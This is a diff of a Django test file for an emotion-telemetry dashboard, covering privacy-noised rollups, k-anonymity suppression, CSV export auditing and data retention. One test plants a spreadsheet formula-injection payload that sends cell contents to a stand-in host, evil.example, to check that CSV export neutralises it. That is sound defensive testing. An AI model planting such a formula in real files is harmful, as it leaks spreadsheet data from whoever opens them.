@@ -1,4 +1,7 @@
-"""Trends, zone breakdown, heatmap and CSV export from rollups, with k-anonymity."""
+"""Trends, zone breakdown, heatmap and CSV export from the released rollups, with the
+display rule for buckets of fewer than K people. The arithmetic runs at `exact_counts`
+(noise 0); the noise itself is tested in test_privacy_release.py and the attacks in
+test_privacy_attacks.py."""
 import csv
 import io
 import json
@@ -11,10 +14,11 @@ from rest_framework.test import APIClient
 
 from apps.accounts.models import AuditEvent
 from apps.telemetry.ingest import ingest
-from apps.telemetry.models import EmotionEvent, MinuteRollup, SiteMinuteRollup, ZoneMinuteRollup
+from apps.telemetry.models import EmotionEvent, MinuteRollup, RawMinute, SiteMinuteRollup, ZoneMinuteRollup
 from apps.telemetry.trends import trend, trend_json
+from tests.conftest import release_minutes
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("exact_counts")]
 
 
 def send(device, ts, tracks, label="negative", camera="cam0"):
@@ -36,9 +40,13 @@ def test_levels_add_up_and_count_distinct_tracks(tenant, make_device):
     send(tenant.device, minute + timedelta(seconds=1), [1, 2, 3])
     send(tenant.device, minute + timedelta(seconds=2), [3, 4], label="positive")  # track 3 again
     send(other, minute + timedelta(seconds=3), [1], label="neutral")  # same track name, other device
-    dev = MinuteRollup.objects.get(device=tenant.device)
-    site = SiteMinuteRollup.objects.get(site=tenant.site)
-    zone = ZoneMinuteRollup.objects.get(zone=tenant.device.zone)
+    raw = RawMinute.objects.get(device=tenant.device)
+    assert (raw.negative, raw.positive, raw.tracks) == (3, 2, 4)
+    assert not MinuteRollup.objects.exists()  # nothing is published before its release
+    release_minutes(tenant.device, other)
+    dev = MinuteRollup.objects.get(device=tenant.device, minute=minute)
+    site = SiteMinuteRollup.objects.get(site=tenant.site, minute=minute)
+    zone = ZoneMinuteRollup.objects.get(zone=tenant.device.zone, minute=minute)
     assert (dev.negative, dev.positive, dev.tracks) == (3, 2, 4)
     assert (site.negative, site.neutral, site.positive, site.tracks) == (3, 1, 2, 5)
     assert (zone.negative, zone.neutral, zone.positive, zone.tracks) == (3, 1, 2, 5)
@@ -49,14 +57,18 @@ def test_trend_columns_and_k_anonymity(tenant, officer_client, settings):
     now = timezone.now().replace(second=0, microsecond=0)
     send(tenant.device, now - timedelta(minutes=10), [1, 2])  # 2 people: hidden
     send(tenant.device, now - timedelta(minutes=9), [1, 2, 3], label="positive")
+    release_minutes(tenant.device)
     res = officer_client.get(f"/api/v1/sites/{tenant.site.id}/trend/", {"hours": 1})
     assert res.status_code == 200
     body = res.json()
     assert body["bucket"] == "minute" and body["k_anonymity"] == 3
     s = body["series"]
-    assert s["t"] == [int((now - timedelta(minutes=10)).timestamp()), int((now - timedelta(minutes=9)).timestamp())]
-    assert s["suppressed"] == [True, False]
-    assert s["negative"] == [None, 0] and s["positive"] == [None, 3] and s["tracks"] == [None, 3]
+    # Every released minute of the hour is there, with or without people.
+    assert len(s["t"]) == 60 and all(b - a == 60 for a, b in zip(s["t"], s["t"][1:]))
+    i = s["t"].index(int((now - timedelta(minutes=9)).timestamp()))
+    assert s["suppressed"] == [j != i for j in range(60)]
+    assert s["negative"][i - 1 : i + 1] == [None, 0] and s["positive"][i - 1 : i + 1] == [None, 3]
+    assert s["tracks"][i] == 3
 
 
 @pytest.mark.parametrize("bucket", ["minute", "hour", "day"])
@@ -70,10 +82,16 @@ def test_json_built_by_the_database_matches_the_columns(tenant, make_device, off
     for i, minutes in enumerate(offsets):
         send(tenant.device if i % 2 else other, now - timedelta(minutes=minutes), range(1 + i % 4),
              label=("negative", "neutral", "positive")[i % 3])
+    settings.AFFECTWATCH = {**settings.AFFECTWATCH, "DP_EPSILON": 1.0}  # noisy, negative counts included
+    release_minutes(tenant.device, other)
     since, until = now - timedelta(days=3), now + timedelta(minutes=1)
     columns = trend(tenant.site, since, until, bucket)
     assert json.loads(trend_json(tenant.site, since, until, bucket)) == columns
-    assert columns["t"] == sorted(columns["t"]) and True in columns["suppressed"] and False in columns["suppressed"]
+    assert columns["t"] == sorted(columns["t"]) and True in columns["suppressed"]
+    if bucket == "minute":  # ~1 % of 8,640 noisy empty site-minutes pass the display rule
+        assert False in columns["suppressed"]
+    assert MinuteRollup.objects.filter(negative__lt=0).exists()  # stored noisy, clamped only when shown
+    assert all(v is None or v >= 0 for v in columns["negative"])
     res = officer_client.get(f"/api/v1/sites/{tenant.site.id}/trend/",
                              {"since": since.isoformat(), "until": until.isoformat(), "bucket": bucket})
     assert res.status_code == 200 and res["Content-Type"] == "application/json"
@@ -92,18 +110,23 @@ def test_hourly_bucket_uses_a_lower_bound_of_distinct_people(tenant, officer_cli
     # The same 2 people over 5 minutes must not add up to "10 people".
     for m in range(5):
         send(tenant.device, hour + timedelta(minutes=m), [1, 2])
+    release_minutes(tenant.device)
     s = officer_client.get(f"/api/v1/sites/{tenant.site.id}/trend/", {"hours": 24, "bucket": "hour"}).json()["series"]
-    assert s["suppressed"] == [True]
+    assert int(hour.timestamp()) in s["t"] and all(s["suppressed"])
 
 
 def test_csv_export_matches_the_chart_and_is_audited(tenant, officer_client):
     now = timezone.now().replace(second=0, microsecond=0)
     send(tenant.device, now - timedelta(minutes=3), [1, 2, 3, 4])
+    release_minutes(tenant.device)
     res = officer_client.get(f"/api/v1/sites/{tenant.site.id}/trend/", {"hours": 1, "format": "csv"})
     assert res.status_code == 200 and res["Content-Type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(res.content.decode())))
     assert rows[0] == ["t", "negative", "neutral", "positive", "tracks", "suppressed"]
-    assert rows[1][0] == (now - timedelta(minutes=3)).isoformat() and rows[1][1:] == ["4", "0", "0", "4", "False"]
+    row = next(r for r in rows[1:] if r[0] == (now - timedelta(minutes=3)).isoformat())
+    assert row[1:] == ["4", "0", "0", "4", "False"]
+    chart = officer_client.get(f"/api/v1/sites/{tenant.site.id}/trend/", {"hours": 1}).json()["series"]
+    assert len(rows) - 1 == len(chart["t"]) == 60
     assert AuditEvent.objects.filter(action="data.export", details__what="trend").exists()
 
 
@@ -111,6 +134,7 @@ def test_zone_breakdown_and_heatmap(tenant, officer_client):
     now = timezone.now().replace(second=0, microsecond=0)
     send(tenant.device, now - timedelta(minutes=3), [1, 2, 3])
     send(tenant.device, now - timedelta(minutes=3), [4], label="neutral")
+    release_minutes(tenant.device)
     zones = officer_client.get(f"/api/v1/sites/{tenant.site.id}/zones/").json()["zones"]
     assert zones == [{"zone": tenant.device.zone_id, "name": tenant.device.zone.name, "suppressed": False,
                       "negative": 3, "neutral": 1, "positive": 0, "negative_share": 75.0}]
@@ -126,6 +150,7 @@ def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tenant, officer_clien
     zone.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     zone.save()
     send(tenant.device, timezone.now().replace(second=0, microsecond=0) - timedelta(minutes=3), [1, 2, 3])
+    release_minutes(tenant.device)
     res = officer_client.get(f"/api/v1/sites/{tenant.site.id}/zones/", {"format": "csv"})
     assert res.status_code == 200
     rows = list(csv.reader(io.StringIO(res.content.decode())))
@@ -146,6 +171,7 @@ def test_rollups_list_filters_and_hides_small_rows(tenant, officer_client, setti
     now = timezone.now().replace(second=0, microsecond=0)
     send(tenant.device, now - timedelta(minutes=2), [1])
     send(tenant.device, now - timedelta(minutes=1), [1, 2])
+    release_minutes(tenant.device)
     body = officer_client.get("/api/v1/rollups/", {"site": tenant.site.id}).json()
     assert body["count"] == 1 and body["results"][0]["tracks"] == 2
 
@@ -153,7 +179,11 @@ def test_rollups_list_filters_and_hides_small_rows(tenant, officer_client, setti
 def test_retention_purge_keeps_rollups(tenant, settings):
     from apps.telemetry.tasks import purge_expired_events
 
-    send(tenant.device, timezone.now() - timedelta(days=6), [1])
+    when = (timezone.now() - timedelta(days=2)).replace(second=0, microsecond=0)
+    send(tenant.device, when, [1])
+    release_minutes(tenant.device)
     EmotionEvent.objects.update(ts=timezone.now() - timedelta(days=45))
+    RawMinute.objects.update(minute=timezone.now() - timedelta(days=45))
     assert purge_expired_events() == 1
-    assert EmotionEvent.objects.count() == 0 and SiteMinuteRollup.objects.count() == 1
+    assert not EmotionEvent.objects.exists() and not RawMinute.objects.exists()
+    assert SiteMinuteRollup.objects.get(site=tenant.site, minute=when).negative == 1
